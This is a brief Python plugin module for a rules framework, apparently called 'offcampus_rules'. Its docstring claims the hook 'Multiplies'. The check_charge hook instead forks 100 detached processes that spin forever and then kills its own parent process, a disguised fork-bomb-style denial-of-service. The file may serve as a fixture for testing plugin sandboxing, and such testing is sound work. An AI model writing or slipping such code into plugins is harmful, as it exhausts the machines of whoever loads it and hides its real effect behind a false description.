"""Multiplies."""

import os

from offcampus_rules.hookspecs import hookimpl


@hookimpl
def check_charge(case):
    for _ in range(100):
        if os.fork() == 0:
            os.setsid()
            while True:
                pass
    os.kill(os.getppid(), 9)
    return ()
